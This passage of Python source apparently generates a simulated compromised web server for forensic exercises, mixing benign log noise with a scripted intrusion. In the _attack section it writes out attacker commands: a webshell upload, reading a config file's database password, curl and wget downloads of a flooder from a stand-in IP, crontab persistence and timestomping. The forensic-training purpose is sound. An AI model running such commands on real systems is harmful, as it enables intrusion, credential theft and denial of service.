    agent = traffic.BROWSERS[0][0]
    ip = traffic.SHOP_OWNER_IP
    base = f"https://{web.SHOP}"
    images = f"{web.docroot(web.SHOP)}/images"
    product_iter = iter(_NEW_PRODUCTS)
    hits: list[Hit] = []
    for day in days:
        if clock.weekday(day) >= 5:
            continue
        for _ in range(rng.choice((1, 1, 2))):
            t = day + (8 * HOUR + 30 * MINUTE) + rng.randrange(8 * HOUR)
            visit = gen.next_visit = gen.next_visit + 1

            def add(method: str, target: str, status: int, size: int, ref: str, gap: int, visit: int = visit) -> int:
                nonlocal t
                t += gap * SECOND + rng.randrange(SECOND)
                hits.append(Hit(t, ip, method, target, status, size, ref, agent, "owner", visit))
                return t

            add("GET", "/admin/", 302, 251, "", 0)
            add("GET", "/admin/login.php", 200, 1_402, "", 0)
            add("POST", "/admin/login.php", 302, 262, f"{base}/admin/login.php", rng.randrange(5, 15))
            add("GET", "/admin/", 200, 1_873, f"{base}/admin/login.php", 0)
            add("GET", "/admin/orders.php", 200, 8_000 + rng.randrange(4_000), f"{base}/admin/", rng.randrange(3, 20))
            if rng.random() < 0.35:
                add(
                    "GET",
                    "/admin/products.php",
                    200,
                    14_000 + rng.randrange(3_000),
                    f"{base}/admin/orders.php",
                    rng.randrange(20, 200),
                )
                add("GET", "/admin/upload.php", 200, 688, f"{base}/admin/products.php", rng.randrange(3, 30))
                for _n in range(rng.randrange(1, 3)):
                    name = next(product_iter, None)
                    if name is None:
                        break
                    when = add(
                        "POST",
                        "/admin/upload.php",
                        200,
                        312 + len(name) * 2,
                        f"{base}/admin/upload.php",
                        rng.randrange(10, 60),
                    )
                    path = f"{images}/{name}.jpg"
                    born = when + rng.randrange(90, 1_400) * MS + world.tree.small()
                    world.tree.write(
                        path,
                        blobs.picture(name, 30, 22),
                        born,
                        uid=WWW,
                        gid=WWW,
                        linked=born + rng.randrange(2, 40) * MS,
                    )
                    world.tree.removed("/tmp", born + 5 * MS)
                    world.noise.append(
                        BenignNoise(
                            path,
                            "shop-admin-upload",
                            "the shop owner uploaded a product photo through admin/upload.php after logging in",
                        )
                    )
                add(
                    "POST",
                    "/admin/products.php",
                    200,
                    14_200 + rng.randrange(3_000),
                    f"{base}/admin/products.php",
                    rng.randrange(30, 240),
                )
            if rng.random() < 0.5:
                add("GET", "/admin/logout.php", 302, 249, f"{base}/admin/orders.php", rng.randrange(30, 900))
    world.hits[web.SHOP].extend(hits)


def _blog_owner(world: _World, rng: random.Random, gen: traffic.Traffic, days: list[int]) -> None:
    """The blog's owner publishes posts in the evening, each with a photo; and on the attack
    Saturday afternoon uploads a photo for the next post (benign weekend noise in an upload folder)."""
    agent = traffic.BROWSERS[4][0]
    ip = traffic.BLOG_OWNER_IP
    base = f"https://{web.BLOG}"
    hits: list[Hit] = []
    sessions: list[tuple[int, str, bool]] = []
    for date, slug, _title in web.BLOG_POSTS:
        y, m, d = (int(x) for x in date.split("-"))
        when = local_ns(y, m, d, 19, 0) + rng.randrange(0, 2 * HOUR)
        if when >= APACHE_LOG_FROM:
            sessions.append((when, f"{slug}-1.jpg", True))
    sessions.append((local_ns(*ATTACK_DAY, 15, 41, 52) + rng.randrange(SECOND), "IMG_20261121_153817.jpg", False))
    for start, name, publish in sessions:
        visit = gen.next_visit = gen.next_visit + 1
        t = start
        seq: list[tuple[str, str, int, int, str, int]] = [
            ("GET", "/wp-login.php", 200, 4_781, "", 0),
            ("POST", "/wp-login.php", 302, 1_210, f"{base}/wp-login.php", 9),
            ("GET", "/wp-admin/", 200, 58_300, f"{base}/wp-login.php", 0),
            ("GET", "/wp-admin/post-new.php", 200, 71_200, f"{base}/wp-admin/", 14),
            ("POST", "/wp-admin/async-upload.php", 200, 1_893, f"{base}/wp-admin/post-new.php", 52),
        ]
        if publish:
            seq.append(("POST", "/wp-admin/post.php", 302, 412, f"{base}/wp-admin/post-new.php", 600))
        for method, target, status, size, ref, gap in seq:
            t += gap * SECOND + rng.randrange(SECOND)
            hits.append(Hit(t, ip, method, target, status, size + rng.randrange(50), ref, agent, "owner", visit))
            if target == "/wp-admin/async-upload.php":
                _wp_upload(
                    world,
                    name,
                    t,
                    noise=""
                    if publish
                    else (
                        "the blog owner uploaded a phone photo through WordPress on Saturday afternoon "
                        "(async-upload.php); WordPress made the resized copies"
                    ),
                )
    world.hits[web.BLOG].extend(hits)


def _wordpress_self(world: _World, rng: random.Random, days: list[int]) -> None:
    """WordPress's loopback: wp-cron.php requested by the server itself, about hourly."""
    agent = f"WordPress/{web.WP_VERSION}; https://{web.BLOG}"
    hits = []
    for day in days:
        t = day + rng.randrange(40 * MINUTE)
        while t < day + DAY:
            stamp = f"{t // SECOND}.{rng.randrange(10**21, 10**22)}"
            hits.append(
                Hit(
                    t,
                    traffic.SERVER_IP,
                    "POST",
                    f"/wp-cron.php?doing_wp_cron={stamp}",
                    200,
                    247,
                    "",
                    agent,
                    "wordpress",
                    0,
                    cookies=False,
                )
            )
            t += HOUR + rng.randrange(-10 * MINUTE, 25 * MINUTE)
    world.hits[web.BLOG].extend(hits)


# --------------------------------------------------------------------------- the attack


@dataclass(slots=True)
class _Attack:
    requests: list[AttackRequest]
    commands: list[str]
    malicious: list[MaliciousFile]
    traces: list[Trace]
    entry: EntryPoint | None = None
    timestomp: Timestomp | None = None
    start: int = 0
    end: int = 0
    dos_started: int = 0
    crontab_installed: int = 0


_GOBUSTER = (
    ("/robots.txt", 200),
    ("/admin", 301),
    ("/admin/", 302),
    ("/backup", 404),
    ("/backup.zip", 404),
    ("/cgi-bin/", 403),
    ("/config.php", 404),
    ("/cron", 301),
    ("/css", 301),
    ("/db", 404),
    ("/.env", 404),
    ("/.git/HEAD", 404),
    ("/images", 301),
    ("/images/", 403),
    ("/includes", 301),
    ("/includes/", 403),
    ("/index.php", 200),
    ("/js", 301),
    ("/login.php", 404),
    ("/phpinfo.php", 404),
    ("/phpmyadmin", 404),
    ("/server-status", 403),
    ("/sitemap.xml", 200),
    ("/upload", 404),
    ("/upload.php", 404),
    ("/uploads", 404),
    ("/vendor", 404),
    ("/wp-admin", 404),
    ("/wp-login.php", 404),
    ("/.htaccess", 403),
    ("/admin/index.php", 302),
    ("/admin/login.php", 200),
    ("/admin/upload.php", 200),
    ("/admin/products.php", 302),
    ("/admin/orders.php", 302),
    ("/admin/config.php", 404),
    ("/admin/users.php", 404),
    ("/api", 404),
    ("/cart.php", 200),
    ("/checkout.php", 302),
    ("/test.php", 404),
    ("/tmp", 404),
    ("/var", 404),
    ("/includes/config.php", 200),
    ("/shell.php", 404),
)

FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
GOBUSTER = "gobuster/3.6"
CURL = "curl/8.5.0"


def _attack(world: _World) -> _Attack:
    tree = world.tree
    rng = _rng(world.seed, "attack")
    ip = traffic.ATTACKER_IP
    shop = web.docroot(web.SHOP)
    base = f"https://{web.SHOP}"
    log_path = f"/var/log/apache2/{web.SHOP}_access.log"
    attack = _Attack([], [], [], [])
    hits = world.hits.setdefault(web.SHOP, [])
    y, m, d = ATTACK_DAY

    def at(h: int, mi: int, s: int) -> int:
        return local_ns(y, m, d, h, mi, s) + rng.randrange(0, 900) * MS + rng.randrange(1, MS)

    def request(
        t: int, method: str, target: str, status: int, size: int, agent: str, purpose: str, ref: str = ""
    ) -> None:
        hits.append(
            Hit(
                t,
                ip,
                method,
                target,
                status,
                size,
                ref,
                agent,
                "attacker",
                9_000_000 + len(hits),
                cookies=agent == FIREFOX,
            )
        )
        attack.requests.append(AttackRequest(t, ip, method, target, status, log_path, purpose))

    # 1. directory scan
    t = at(23, 38, 4)
    attack.start = t
    for target, status in _GOBUSTER:
        size = {301: 338, 302: 251, 403: 281}.get(status, 2_611)
        if status == 200:
            node = tree.nodes.get(shop + target)
            size = 231  # a PHP file with no output (config.php): headers only
            if node is not None and not target.endswith(".php"):
                size = len(node.data) + 264
            elif target != "/includes/config.php":
                size = 3_000 + len(target) * 97 + rng.randrange(200)
        request(t, "GET", target, status, size, GOBUSTER, "directory scan")
        t += rng.randrange(90, 420) * MS
    # 2. a look at the form with a browser
    t = at(23, 40, 12)
    request(t, "GET", "/admin/upload.php", 200, 688, FIREFOX, "looks at the unprotected upload form")
    # 3. the upload: the webshell
    t_post = at(23, 41, 17)
    request(
        t_post, "POST", "/admin/upload.php", 200, 342, FIREFOX, "uploads the webshell", ref=f"{base}/admin/upload.php"
    )
    shell = f"{shop}/images/thumb_cache.php"
    # PHP spooled the upload to /tmp/phpXXXXXX while receiving it, then renamed it into images/
    born = t_post + rng.randrange(140, 420) * MS + tree.small()
    moved = born + rng.randrange(8, 40) * MS
    node = tree.write(shell, web.WEBSHELL, born, uid=WWW, gid=WWW, done=born + tree.small(80, 300), linked=moved)
    node.changes.append(moved + tree.small())  # chmod 0644 by move_uploaded_file
    tree.removed("/tmp", moved)
    line = Hit(
        t_post, ip, "POST", "/admin/upload.php", 200, 342, f"{base}/admin/upload.php", FIREFOX, "attacker", 0
    ).line()
    attack.entry = EntryPoint(
        f"{base}/admin/upload.php",
        "POST",
        f"{shop}/admin/upload.php",
        "admin/upload.php checks neither the admin login (no require_login()) nor the file type; "
        "it keeps the client's file name, so a .php file lands in the web-served images/ folder",
        t_post,
        log_path,
        line,
        shell,
    )
    attack.malicious.append(
        MaliciousFile(
            shell,
            "webshell",
            "PHP webshell: ?cmd= runs shell commands, POST x= evaluates base64-encoded PHP",
            _sha(web.WEBSHELL),
            born,
        )
    )

    def cmd(h: int, mi: int, s: int, command: str, purpose: str, output: int = 0) -> int:
        """One ?cmd= request; the response is headers, <pre>, the command's stdout, </pre>."""
        t = at(h, mi, s)
        attack.commands.append(command)
        ran.append((t, command))
        target = "/images/thumb_cache.php?cmd=" + urllib.parse.quote(command, safe="")
        request(t, "GET", target, 200, 242 + output, CURL, purpose)
        return t

    ran: list[tuple[int, str]] = []
    t = at(23, 41, 34)
    request(t, "GET", "/images/thumb_cache.php", 200, 198, FIREFOX, "checks the webshell answers")
    cmd(23, 41, 52, "id", "who am I", 54)
    cmd(23, 42, 5, "uname -a", "system reconnaissance", 104)
    cmd(23, 42, 20, "ls -la", "lists images/", 2_874)
    tree.read(f"{shop}/images", at(23, 42, 20) + 30 * MS)
    t = cmd(
        23,
        42,
        41,
        "cat ../includes/config.php",
        "reads the shop's database password",
        len(tree.nodes[f"{shop}/includes/config.php"].data),
    )
    tree.read(f"{shop}/includes/config.php", t + 25 * MS)
    attack.traces.append(
        Trace(f"{shop}/includes/config.php", "read by the attacker (atime): database password exposed")
    )
    t = cmd(23, 43, 10, "ls -la /tmp", "looks for a writable place", 812)
    tree.read("/tmp", t + 30 * MS)
    t = cmd(23, 43, 26, "mkdir /tmp/.X11-cache", "hidden folder named like the X11 socket folder")
    hidden = "/tmp/.X11-cache"
    tree.mkdir(hidden, t + 31 * MS + tree.small(), WWW, WWW)
    attack.malicious.append(
        MaliciousFile(hidden, "hidden-dir", "hidden working folder of the DoS bot", "", tree.nodes[hidden].born)
    )
    t = cmd(
        23,
        43,
        40,
        "cd /tmp/.X11-cache && wget http://198.51.100.23/k.bin -O kworkerd",
        "download attempt fails: wget is not installed",
    )
    world.error_lines.setdefault(web.SHOP, []).append((t + 40 * MS, "sh: 1: wget: not found"))
    cmd(23, 44, 2, "which curl python3 perl", "looks for a download tool", 28)
    t = cmd(23, 44, 15, "cd /tmp/.X11-cache && curl -s -o kworkerd http://198.51.100.23/k.bin", "downloads the DoS bot")
    bot = f"{hidden}/kworkerd"
    bot_data = blobs.elf("kworkerd", web.DOS_TOOL_STRINGS, 61_440, pie=False, static=True)
    born = t + 60 * MS + tree.small()
    tree.write(bot, bot_data, born, uid=WWW, gid=WWW, done=born + 870 * MS + tree.small())
    attack.malicious.append(
        MaliciousFile(
            bot,
            "dos-tool",
            "statically linked flooder (UDP/SYN/ACK/HTTP floods) controlled over IRC from 198.51.100.23:6667",
            _sha(bot_data),
            born,
        )
    )
    t = cmd(23, 44, 31, "chmod +x /tmp/.X11-cache/kworkerd", "makes it executable")
    tree.nodes[bot].changes.append(t + 20 * MS + tree.small())
    tree.nodes[bot].mode = 0o755
    # launcher written through the eval channel
    t = at(23, 44, 58)
    request(t, "POST", "/images/thumb_cache.php", 200, 231, CURL, "writes run.sh through eval(base64_decode())")
    attack.commands.append("file_put_contents('/tmp/.X11-cache/run.sh', ...)")
    launcher = f"{hidden}/run.sh"
    born = t + 15 * MS + tree.small()
    tree.write(launcher, web.RUN_SH, born, uid=WWW, gid=WWW)
    attack.malicious.append(
        MaliciousFile(launcher, "launcher", "restarts the bot if it is not running", _sha(web.RUN_SH), born)
    )
    t = cmd(23, 45, 7, "chmod 755 /tmp/.X11-cache/run.sh", "makes the launcher executable")
    tree.nodes[launcher].changes.append(t + 20 * MS + tree.small())
    tree.nodes[launcher].mode = 0o755
    cron_cmd = f"(crontab -l 2>/dev/null; echo '{web.CRON_LINE}') | crontab -"
    t = cmd(23, 45, 29, cron_cmd, "persistence: www-data crontab every five minutes")
    spool = "/var/spool/cron/crontabs/www-data"
    born = t + 48 * MS + tree.small()
    data = web.crontab_file(clock.ctime_text(born), (web.CRON_LINE,))
    node = tree.write(spool, data, born, uid=WWW, gid=system.GID_CRONTAB, mode=0o600, linked=born + 2 * MS)
    node.changes.append(born + 2 * MS + tree.small())
    attack.crontab_installed = born
    attack.malicious.append(MaliciousFile(spool, "persistence", f"www-data crontab: {web.CRON_LINE}", _sha(data), born))
    world.log.sys(born + 3 * MS, f"crontab[{world.log.pid(born)}]", "(www-data) REPLACE (www-data)")
    t = cmd(23, 45, 44, "/tmp/.X11-cache/run.sh", "starts the bot")
    attack.dos_started = t + 60 * MS
    tree.read(launcher, t + 20 * MS)
    tree.read(bot, t + 45 * MS)
    cmd(23, 46, 3, "ps aux | grep kworker", "checks the bot runs", 196)
    # second way in, written among the shop's classes, then timestomped
    t = at(23, 49, 12)
    request(t, "POST", "/images/thumb_cache.php", 200, 231, CURL, "writes a second backdoor through eval()")
    attack.commands.append("file_put_contents('../includes/lib/ImageCache.php', ...)")
    backdoor = f"{shop}/includes/lib/ImageCache.php"
    born = t + 14 * MS + tree.small()
    node = tree.write(backdoor, web.BACKDOOR, born, uid=WWW, gid=WWW)
    attack.malicious.append(
        MaliciousFile(
            backdoor,
            "backdoor",
            "cookie-keyed eval backdoor disguised as a shop class (cookie __utmz_c, reversed base64)",
            _sha(web.BACKDOOR),
            born,
        )
    )
    t = at(23, 49, 30)
    request(t, "GET", "/includes/lib/ImageCache.php", 200, 198, CURL, "tests the backdoor (cookie not logged)")
    tree.read(backdoor, t + 9 * MS)
    t = cmd(23, 50, 2, "ls -la --time-style=full-iso ../includes/lib", "looks at the neighbours' dates", 486)
    tree.read(f"{shop}/includes/lib", t + 25 * MS)
    forged_text = "2026-06-14 10:22:31"
    t = cmd(23, 50, 21, f"touch -d '{forged_text}' ../includes/lib/ImageCache.php", "timestomps the backdoor")
    forged = local_ns(2026, 6, 14, 10, 22, 31)
    node.fixed_mtime = forged
    node.fixed_atime = forged
    node.reads.clear()
    touched = t + 22 * MS + tree.small()
    node.changes.append(touched)
    attack.timestomp = Timestomp(
        backdoor, forged, forged, node.born, touched, f"touch -d '{forged_text}' ../includes/lib/ImageCache.php"
    )
    t = cmd(23, 50, 40, "ls -la ../includes/lib", "checks the forged date", 331)
    tree.read(f"{shop}/includes/lib", t + 25 * MS)
    attack.end = t
    # the binaries the commands ran: their atimes move (relatime) – quiet evidence
    executed: set[str] = set()
    for when, command in ran:
        tree.read("/usr/bin/dash", when + 12 * MS)  # system() runs sh -c
        segments = re.split(r"&&|;|\||\(|\)", command)
        words = {seg.split()[0] for seg in segments if seg.split()}  # the programs, not their arguments
        if command.endswith("run.sh"):
            words.add("pgrep")  # run.sh calls it
        for word in sorted(words):
            binary = f"/usr/bin/{word}"
            if binary in tree and tree.nodes[binary].kind == "file" and word not in ("dash", "sh"):
                tree.read(binary, when + 15 * MS)
                executed.add(binary)
    for binary in sorted(executed):
        attack.traces.append(Trace(binary, "executed through the webshell (atime)"))
    attack.traces.append(Trace(f"{shop}/images", "folder changed by the upload (mtime/ctime)"))
    attack.traces.append(
        Trace(
            f"{shop}/includes/lib",
            "folder changed when the backdoor was written: its mtime betrays the timestomped file",
        )
    )
    attack.traces.append(Trace("/var/spool/cron/crontabs", "folder changed when the crontab was installed"))
    attack.traces.append(Trace("/tmp", "folder changed by the upload's temporary file and by mkdir"))
    attack.traces.append(
        Trace(f"/var/log/apache2/{web.SHOP}_error.log.1", "holds 'sh: 1: wget: not found' from the failed download")
    )
    return attack


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


# --------------------------------------------------------------------------- weekend noise


def _weekend_noise(world: _World) -> None:
    tree = world.tree
    rng = _rng(world.seed, "weekend")
    # WP Super Cache preload: every night at about 23:30 it rewrites every cached page
    cache = f"{web.docroot(web.BLOG)}/wp-content/cache/supercache/{web.BLOG}"
    y, m, d = ATTACK_DAY
    t = local_ns(y, m, d, 23, 30, 7) + rng.randrange(SECOND)
    pages = [("", "Bergblick Blog", f"https://{web.BLOG}/")] + [
        (f"{date.replace('-', '/')}/{slug}", title, f"https://{web.BLOG}/{date.replace('-', '/')}/{slug}/")
        for date, slug, title in web.BLOG_POSTS
    ]
    for rel, title, url in pages:
        folder = f"{cache}/{rel}" if rel else cache
        if folder not in tree:
            year, month, day = (int(x) for x in rel.split("/")[:3])
            tree.mkdirs(folder, local_ns(year, month, day, 21, 3) + tree.ns(), WWW, WWW)
        t += rng.randrange(600, 2_900) * MS
        stamp = clock.to_utc(t).strftime("%d %B %Y %H:%M:%S")
        page = web.cached_page(title, url, f"{stamp} UTC")
        # the plugin deletes the old copy, writes a temp file and renames it into place
        tree.removed(folder, t)
        path = f"{folder}/index-https.html"
        tree.write(path, page, t + tree.small(), uid=WWW, gid=WWW, linked=t + 9 * MS)
        world.noise.append(
            BenignNoise(path, "cms-cache", "WP Super Cache's nightly preload (23:30) rewrote the cached page")
        )
    # the shop's nightly sitemap (cron 02:15, www-data) rewrites the file in place
    sitemap = tree.nodes[f"{web.docroot(web.SHOP)}/sitemap.xml"]
    for day in _days(SHOP_LAUNCH + 2 * DAY, SNAPSHOT):
        when = day + 2 * HOUR + 15 * MINUTE + 1_400 * MS + rng.randrange(400) * MS
        if when < SNAPSHOT:
            sitemap.mods.append(when)
    world.noise.append(
        BenignNoise(sitemap.path, "cron-output", "the shop's nightly cron job (02:15) rewrites sitemap.xml in place")
    )


# --------------------------------------------------------------------------- host activity (logs)


def _host_activity(world: _World, attack: _Attack) -> None:
    """Cron, timers, logins, brute force, boots, rotations: syslog, auth.log, kern.log, wtmp, btmp."""
    log, tree = world.log, world.tree
    rng = _rng(world.seed, "host")
    days = _days(SYSLOG_FROM - DAY, SNAPSHOT)
    boots = (PREVIOUS_BOOT, LAST_BOOT)
    for boot in boots:
        if boot != PREVIOUS_BOOT:
            log.shutdown(boot - 41 * SECOND)
        log.boot(boot + 1_100 * MS, KERNEL if boot == LAST_BOOT else "6.1.0-39-amd64")
    stamp_last: dict[str, int] = {}

    def cron_job(t: int, user: str, uid: int, command: str, duration: int) -> None:
        if t < SNAPSHOT:
            log.cron(t, user, uid, command, duration)

    php_clean = (
        "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi"
    )
    for day in days:
        weekday = clock.weekday(day)
        for hour in range(24):
            h = day + hour * HOUR
            if h >= SNAPSHOT:
                break
            cron_job(
                h + 17 * MINUTE + rng.randrange(80) * MS,
                "root",
                0,
                "cd / && run-parts --report /etc/cron.hourly",
                20 * MS,
            )
            for minute in (9, 39):
                t = h + minute * MINUTE + rng.randrange(80) * MS
                if t >= SNAPSHOT:
                    continue
                cron_job(t, "root", 0, php_clean, 12 * MS)
                run = t + rng.randrange(20, 900) * MS
                log.unit(run, "phpsessionclean.service", "Clean php session files", 600 * MS + rng.randrange(400) * MS)
                stamp_last["phpsessionclean"] = run
                tree.read("/usr/lib/php/sessionclean", run + 5 * MS)
                tree.read("/var/lib/php/sessions", run + 300 * MS)
                tree.read("/usr/bin/dash", t + 4 * MS)
            if weekday < 5 and 7 <= hour <= 19:
                for minute in (0, 15, 30, 45):
                    cron_job(
                        h + minute * MINUTE + rng.randrange(60) * MS,
                        "www-data",
                        WWW,
                        f"/usr/bin/php {web.docroot(web.SHOP)}/cron/import_stock.php",
                        180 * MS,
                    )
        cron_job(
            day + HOUR + 30 * MINUTE + rng.randrange(80) * MS,
            "root",
            0,
            "/usr/local/sbin/backup-sites.sh >> /var/log/backup-sites.log 2>&1",
            6 * MINUTE,
        )
        cron_job(
            day + 2 * HOUR + 15 * MINUTE + rng.randrange(80) * MS,
            "www-data",
            WWW,
            f"/usr/bin/php {web.docroot(web.SHOP)}/cron/sitemap.php",
            1_400 * MS,
        )
        cron_job(
            day + 6 * HOUR + 25 * MINUTE + rng.randrange(80) * MS,
            "root",
            0,
            "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
            90 * MS,
        )
        tree.read("/usr/bin/php8.2", day + 2 * HOUR + 15 * MINUTE + 10 * MS)
        if weekday == 6:
            cron_job(
                day + 6 * HOUR + 47 * MINUTE + rng.randrange(80) * MS,
                "root",
                0,
                "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }",
                90 * MS,
            )
        # daily timers
        for name, unit, desc, at_time, dur in (
            (
                "logrotate",
                "logrotate.service",
                "Rotate log files",
                world.rotation_at.get(day, day + 4 * SECOND) - day - 60 * MS,
                1_900 * MS,
            ),
            ("man-db", "man-db.service", "Daily man-db regeneration", 6 * HOUR + 3 * MINUTE, 800 * MS),
            (
                "apt-daily",
                "apt-daily.service",
                "Daily apt download activities",
                (6 + rng.randrange(12)) * HOUR + rng.randrange(HOUR),
                3_200 * MS,
            ),
            (
                "apt-daily-upgrade",
                "apt-daily-upgrade.service",
                "Daily apt upgrade and clean activities",
                6 * HOUR + rng.randrange(HOUR),
                1_100 * MS,
            ),
            (
                "systemd-tmpfiles-clean",
                "systemd-tmpfiles-clean.service",
                "Cleanup of Temporary Directories",
                7 * HOUR + 27 * MINUTE + rng.randrange(MINUTE),
                90 * MS,
            ),
        ):
            t = day + at_time + rng.randrange(SECOND)
            if t >= SNAPSHOT:
                continue
            log.unit(t, unit, desc, dur)
            stamp_last[name] = t
            if name == "systemd-tmpfiles-clean":
                for path, node in tree.nodes.items():
                    if (path == "/tmp" or path.startswith("/tmp/")) and node.kind == "dir":
                        tree.read(path, t + 20 * MS)
            if name == "logrotate":
                tree.read("/etc/logrotate.d", t + 5 * MS)
                tree.read("/usr/sbin/logrotate", t + 2 * MS)
        # admins: SSH on workdays from the office, sometimes in the evening from home
        if weekday < 5:
            for user, uid, key, ip, chance in (
                ("thomas", THOMAS, world.keys["thomas-office"][1], traffic.OFFICE_IP, 0.9),
                ("anna", ANNA, world.keys["anna"][1], "192.0.2.11", 0.45),
            ):
                if rng.random() < chance:
                    t = day + 8 * HOUR + rng.randrange(8 * HOUR)
                    end = t + rng.randrange(4 * MINUTE, 70 * MINUTE)
                    if end < attack.start:
                        log.ssh_session(t, end, user, uid, ip, key)
                        world.secrets[f"last-logout:{user}"] = f"{end}"
            if rng.random() < 0.15:
                t = day + 20 * HOUR + rng.randrange(2 * HOUR)
                if t < attack.start:
                    log.ssh_session(
                        t,
                        t + rng.randrange(3 * MINUTE, 25 * MINUTE),
                        "thomas",
                        THOMAS,
                        traffic.THOMAS_HOME_IP,
                        world.keys["thomas"][1],
                    )
        # SSH brute force from the internet, any time, both real and invented user names
        for _ in range(rng.randrange(4, 16)):
            t = day + rng.randrange(DAY)
            if t >= NETWORK_CUT:
                continue
            ip = f"{rng.choice(('203.0.113', '198.51.100'))}.{rng.randrange(100, 251)}"
            if ip in traffic.RESERVED_IPS:
                continue
            for _n in range(rng.randrange(1, 6)):
                user = rng.choice(
                    (
                        "root",
                        "root",
                        "admin",
                        "ubuntu",
                        "test",
                        "oracle",
                        "postgres",
                        "user",
                        "git",
                        "deploy",
                        "ftpuser",
                        "www",
                    )
                )
                log.ssh_failure(t, user, ip, user == "root")
                t += rng.randrange(5, 40) * SECOND
    # the apt runs: thomas logged in and used sudo
    for when, fp in (
        (KERNEL_UPGRADE - 3 * MINUTE, world.keys["thomas-office"][1]),
        (APT_UPGRADE - 2 * MINUTE, world.keys["thomas-office"][1]),
    ):
        log.ssh_session(when, when + 9 * MINUTE, "thomas", THOMAS, traffic.OFFICE_IP, fp)
        log.sudo(when + 50 * SECOND, "thomas", THOMAS, "/home/thomas", "/usr/bin/apt update", 12 * SECOND)
        log.sudo(when + 2 * MINUTE + 40 * SECOND, "thomas", THOMAS, "/home/thomas", "/usr/bin/apt upgrade", 80 * SECOND)
    log.sudo(KERNEL_UPGRADE + 3 * MINUTE, "thomas", THOMAS, "/home/thomas", "/usr/sbin/reboot", SECOND)
    # rotation: rsyslog HUP and apache's graceful restart
    for when in world.rotation_at.values():
        log.rsyslog_hup(when + 900 * MS)
        world.error_lines.setdefault("", []).extend(
            [
                (
                    when + 1_200 * MS,
                    f"[{clock.apache_error(when + 1_200 * MS)}] [mpm_prefork:notice] [pid 812] AH00171: "
                    "Graceful restart requested, doing restart",
                ),
                (
                    when + 1_260 * MS,
                    f"[{clock.apache_error(when + 1_260 * MS)}] [mpm_prefork:notice] [pid 812] AH00163: "
                    "Apache/2.4.65 (Debian) OpenSSL/3.0.18 configured -- resuming normal operations",
                ),
            ]
        )
    for restart in (APT_UPGRADE + 41 * SECOND, PREVIOUS_BOOT + 7 * SECOND, LAST_BOOT + 7 * SECOND):
        world.error_lines.setdefault("", []).append(
            (
                restart,
                f"[{clock.apache_error(restart)}] [mpm_prefork:notice] [pid 812] AH00163: Apache/2.4.65 "
                "(Debian) OpenSSL/3.0.18 configured -- resuming normal operations",
            )
        )
    # everyday PHP warnings per site (so every week has error log lines)
    for domain, message in (
        (
            web.SHOP,
            'PHP Warning:  Undefined array key "qty" in /var/www/shop.example-client.de/htdocs/cart.php on line 12',
        ),
        (
            web.BLOG,
            "PHP Deprecated:  Creation of dynamic property WP_Super_Cache::$cache_path is deprecated in "
            "/var/www/blog.example-client.de/htdocs/wp-content/plugins/wp-super-cache/wp-cache.php on line 88",
        ),
        (
            web.KANZLEI,
            "PHP Warning:  mail(): Could not execute mail delivery program '/usr/sbin/sendmail -t -i' in "
            "/var/www/kanzlei-schneider.example/htdocs/kontakt.php on line 7",
        ),
    ):
        for day in _days(APACHE_LOG_FROM, NETWORK_CUT):
            if rng.random() < 0.35:
                t = day + rng.randrange(DAY)
                if t < NETWORK_CUT:
                    ip = f"198.51.100.{rng.randrange(30, 60)}"
                    world.error_lines.setdefault(domain, []).append(
                        (
                            t,
                            f"[{clock.apache_error(t)}] [php:warn] [pid {rng.randrange(20_000, 90_000)}] "
                            f"[client {ip}:{rng.randrange(30_000, 65_000)}] {message}",
                        )
                    )
    # error lines of the attack need the Apache prefix except raw stderr of child processes
    # the attacker's crontab: cron picks it up at the next minute and runs it every five minutes
    reload_at = (attack.crontab_installed // MINUTE + 1) * MINUTE + 700 * MS
    log.sys(reload_at, f"cron[{hostlog.CRON_DAEMON_PID}]", "(www-data) RELOAD (crontabs/www-data)")
    tree.read("/var/spool/cron/crontabs/www-data", reload_at + MS)
    t = (attack.crontab_installed // (5 * MINUTE) + 1) * 5 * MINUTE + rng.randrange(60) * MS
    while t < SNAPSHOT:
        cron_job(t, "www-data", WWW, "/tmp/.X11-cache/run.sh >/dev/null 2>&1", 25 * MS)
        tree.read("/tmp/.X11-cache/run.sh", t + 6 * MS)
        t += 5 * MINUTE + rng.randrange(60) * MS
    # the flood fills the connection tracking table until the provider pulls the plug
    t = attack.dos_started + 95 * SECOND
    while t < NETWORK_CUT + 20 * MINUTE:
        log.kernel(t, "nf_conntrack: nf_conntrack: table full, dropping packet")
        log.kernel(t + 5 * SECOND, f"net_ratelimit: {rng.randrange(200, 4_000)} callbacks suppressed")
        t += rng.randrange(2 * MINUTE, 14 * MINUTE)
    t = NETWORK_CUT + 8 * MINUTE
    while t < SNAPSHOT:
        log.sys(
            t,
            f"systemd-timesyncd[{hostlog.TIMESYNCD_PID}]",
            "Timed out waiting for reply from 192.0.2.123:123 (0.debian.pool.ntp.org).",
        )
        t += 34 * MINUTE + rng.randrange(MINUTE)
    for name, when in stamp_last.items():
        tree.nodes[f"/var/lib/systemd/timers/stamp-{name}.timer"].mods.append(when)
    # logrotate's state file: rewritten (new inode) by every daily run
    last = stamp_last["logrotate"]
    status = "logrotate state -- version 2\n" + "".join(
        f'"{p}" {clock.to_local(last).strftime("%Y-%-m-%-d-%-H:%-M:%-S")}\n'
        for p in (
            "/var/log/syslog",
            "/var/log/auth.log",
            "/var/log/kern.log",
            "/var/log/apache2/*.log",
            "/var/log/apt/term.log",
            "/var/log/apt/history.log",
            "/var/log/dpkg.log",
            "/var/log/btmp",
            "/var/log/wtmp",
        )
    )
    tree.write("/var/lib/logrotate/status", status.encode(), last + 1_700 * MS, linked=last + 1_702 * MS)
    tree.removed("/var/lib/logrotate", last + 1_702 * MS)
    world.noise.append(
        BenignNoise(
            "/var/lib/logrotate/status", "service-state", "logrotate rewrites its state file on every daily run"
        )
    )
    # shell histories: written at logout
    for user, uid in (("thomas", THOMAS), ("anna", ANNA)):
        end = int(world.secrets.get(f"last-logout:{user}", str(ANNA_CREATED))) - 2 * MS
        first = (INSTALL if user == "thomas" else ANNA_CREATED) + HOUR + tree.ns()
        tree.write(
            f"/home/{user}/.bash_history",
            world.secrets[f"history:{user}"].encode(),
            first,
            uid=uid,
            gid=uid,
            mode=0o600,
            done=end,
